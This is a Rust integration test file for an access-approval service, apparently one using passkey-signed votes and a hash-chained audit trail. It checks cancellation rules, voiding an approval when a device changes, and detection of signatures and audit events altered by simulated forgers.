    // Removing a passkey ends the sign-ins it could still finish: that one is stale, and in
    // the trail, which verifies.
    assert_eq!(failed_passkey_sign_ins(&flow).await, pairs(&[("-", STALE)]));
    let export = trail::export_file(&flow.app).await;
    trail::verify(&flow.app, &export).await.unwrap();
}

#[tokio::test]
async fn a_group_without_passkeys_approves_with_a_plain_vote_and_requesters_may_cancel() {
    let flow = Flow::start().await;
    let mut group = flow
        .admin
        .expect(
            "GET",
            &format!("/api/access-groups/{}", flow.group),
            None,
            200,
        )
        .await;
    group["passkey_required_to_approve"] = json!(false);
    group["approvals_required"] = json!(1);
    group["credential_ids"] = json!(flow.credentials);
    flow.admin
        .expect(
            "PUT",
            &format!("/api/access-groups/{}", flow.group),
            Some(&group),
            200,
        )
        .await;
    let id = flow.request(0).await;
    let approved = flow
        .first
        .person
        .expect(
            "POST",
            &format!("/api/requests/{id}/decisions"),
            Some(&json!({ "decision": "approved" })),
            200,
        )
        .await;
    assert_eq!(approved["status"], "approved");
    assert_eq!(
        flow.detail(&flow.first.person, id).await["decisions"][0]["signed"],
        false
    );

    flow.first
        .person
        .expect("POST", &format!("/api/requests/{id}/cancel"), None, 403)
        .await;
    let cancelled = flow
        .executor
        .expect("POST", &format!("/api/requests/{id}/cancel"), None, 200)
        .await;
    assert_eq!(cancelled["status"], "cancelled");
    flow.executor
        .expect("POST", &format!("/api/requests/{id}/cancel"), None, 409)
        .await;
    assert!(
        flow.actions(&format!("request:{id}"))
            .await
            .contains(&"request.cancelled".to_owned())
    );
}

#[tokio::test]
async fn a_device_moved_after_approval_voids_it_and_the_old_signatures_still_verify() {
    let mut flow = Flow::start().await;
    let id = flow.request(0).await;
    let signed_digest = flow.detail(&flow.first.person, id).await["change_digest"].clone();
    assert!(signed_digest.as_str().unwrap().starts_with("v2:"));
    assert_eq!(flow.first.approve(id).await.status(), 200);
    assert_eq!(flow.second.approve(id).await.status(), 200);
    assert_eq!(
        flow.detail(&flow.executor, id).await["request"]["status"],
        "approved"
    );

    // The admin repoints db-1 at another host, keeping its name and pinned key.
    let path = format!("/api/devices/{}", flow.devices[0]);
    let mut device = flow.admin.expect("GET", &path, None, 200).await;
    device["host"] = json!("10.9.9.9");
    device["host_key"] = json!(crate::fixtures::HOST_KEY);
    flow.admin.expect("PUT", &path, Some(&device), 200).await;
    let detail = flow.detail(&flow.executor, id).await;
    assert_eq!(detail["request"]["status"], "cancelled");
    assert!(
        detail["request"]["status_reason"]
            .as_str()
            .unwrap()
            .starts_with("device db-1 was changed"),
        "{detail}"
    );
    // What an approval would sign now is another digest.
    assert_ne!(detail["change_digest"], signed_digest);
    let actions = flow.actions(&format!("request:{id}")).await;
    assert!(
        actions.contains(&"request.voided".to_owned()),
        "{actions:?}"
    );

    // The votes made before, now void, still verify against the digest they signed.
    let stored: Vec<String> = sqlx::query_scalar(
        "SELECT assertion FROM decisions WHERE request_id = $1 AND voided_at IS NOT NULL",
    )
    .bind(id)
    .fetch_all(flow.app.db.pool())
    .await
    .unwrap();
    assert_eq!(stored.len(), 2);
    for text in stored {
        let assertion: StoredAssertion = serde_json::from_str(&text).unwrap();
        assert_eq!(json!(assertion.change_digest), signed_digest);
        assertion.verify().unwrap();
    }
    let export = trail::export_file(&flow.app).await;
    assert_eq!(
        trail::verify(&flow.app, &export).await.unwrap().assertions,
        2
    );
}

#[tokio::test]
async fn the_trail_verifies_each_approval_signature_and_names_an_altered_one() {
    let mut flow = Flow::start().await;
    let id = flow.request(0).await;
    assert_eq!(flow.first.approve(id).await.status(), 200);
    assert_eq!(flow.second.approve(id).await.status(), 200);
    let vote: i64 = sqlx::query_scalar(
        "SELECT MIN(seq) FROM audit_events WHERE action = 'request.vote' AND object = $1",
    )
    .bind(format!("request:{id}"))
    .fetch_one(flow.app.db.pool())
    .await
    .unwrap();

    // Change details checks each approval's signature now, against the trail's key.
    let mut connection = flow.app.db.pool().acquire().await.unwrap();
    let checks = approvals_of(&mut connection, id).await.unwrap();
    assert_eq!(checks.len(), 2);
    for check in &checks {
        assert!(check.signed && check.verified, "{check:?}");
        assert!(
            check.verification.starts_with("signature verified"),
            "{check:?}"
        );
    }
    // A row rewritten in the database no longer verifies (the decisions are not the trail).
    sqlx::query(
        "UPDATE decisions SET assertion = replace(assertion, '\"signature\":\"', '\"signature\":\"AA')
         WHERE request_id = $1",
    )
    .bind(id)
    .execute(&mut *connection)
    .await
    .unwrap();
    let checks = approvals_of(&mut connection, id).await.unwrap();
    assert!(
        checks
            .iter()
            .all(|check| !check.verified && check.verification.contains("signature fails")),
        "{checks:?}"
    );
    drop(connection);

    // Before any checkpoint: the chain holds, and both signatures verify against the keys
    // their passkey.registered events recorded.
    let export = trail::export_file(&flow.app).await;
    let summary = trail::verify(&flow.app, &export).await.unwrap();
    assert_eq!(summary.assertions, 2);
    // The change's evidence bundle carries both votes and their passkeys' registrations.
    let bundle = trail::bundle_file(&flow.app, CHANGE).await;
    let summary = trail::verify_bundle_file(&flow.app, &bundle).unwrap();
    assert_eq!((summary.assertions, summary.recordings), (2, 0));

    // A forger who rewrites the signature and re-hashes the chain, with no checkpoint over it
    // yet, is still caught: by the passkey signature itself.
    trail::rechain(&export, vote, |event| {
        let signature = event["details"]["assertion"]["signature"]
            .as_str()
            .unwrap()
            .to_owned();
        let flipped = if signature.starts_with('A') { "B" } else { "A" };
        event["details"]["assertion"]["signature"] = json!(format!("{flipped}{}", &signature[1..]));
    });
    let fault = trail::verify(&flow.app, &export).await.unwrap_err();
    assert_eq!(fault.seq, Some(vote), "{fault}");
    assert!(fault.reason.contains("passkey signature fails"), "{fault}");

    // A vote signed with someone else's passkey (the other approver's assertion copied onto
    // it, re-hashed) is caught: a passkey signs only for the one who registered it.
    let export = trail::export_file(&flow.app).await;
    let text = std::fs::read_to_string(&export).unwrap();
    let first_assertion = text
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap())
        .find(|line| line["event"]["seq"] == vote)
        .unwrap()["event"]["details"]["assertion"]
        .clone();
    let second: i64 = sqlx::query_scalar(
        "SELECT MAX(seq) FROM audit_events WHERE action = 'request.vote' AND object = $1",
    )
    .bind(format!("request:{id}"))
    .fetch_one(flow.app.db.pool())
    .await
    .unwrap();
    trail::rechain(&export, second, |event| {
        event["details"]["assertion"] = first_assertion.clone();
    });
    let fault = trail::verify(&flow.app, &export).await.unwrap_err();
    assert_eq!(fault.seq, Some(second), "{fault}");
    assert!(fault.reason.contains("not second's"), "{fault}");

    // A forger who brings a key of their own with the signature is caught too.
    let export = trail::export_file(&flow.app).await;
    trail::rechain(&export, vote, |event| {
        let x = &mut event["details"]["assertion"]["public_key"]["key"]["EC_EC2"]["x"];
        assert!(x.is_string(), "the key's x coordinate is where expected");
        *x = json!(URL_SAFE_NO_PAD.encode([7u8; 32]));
    });
    let fault = trail::verify(&flow.app, &export).await.unwrap_err();
    assert_eq!(fault.seq, Some(vote), "{fault}");
    assert!(fault.reason.contains("another public key"), "{fault}");

    // In the database, behind the triggers' back: the event no longer matches its hash.
    trail::checkpoint(&flow.app).await;
    trail::behind_the_triggers(
        &flow.app,
        &[&format!(
            "UPDATE audit_events SET details = replace(details, '\"signature\":\"', '\"signature\":\"A') WHERE seq = {vote}"
        )],
    )
    .await;
    let export = trail::export_file(&flow.app).await;
    let fault = trail::verify(&flow.app, &export).await.unwrap_err();
    assert_eq!(fault.seq, Some(vote), "{fault}");
    assert!(fault.reason.contains("does not match its hash"), "{fault}");
    // And a bundle made from the altered database says the same of the vote.
    let bundle = trail::bundle_file(&flow.app, CHANGE).await;
    let fault = trail::verify_bundle_file(&flow.app, &bundle).unwrap_err();
    assert_eq!(fault.seq, Some(vote), "{fault}");
    assert!(fault.reason.contains("does not match its hash"), "{fault}");
}
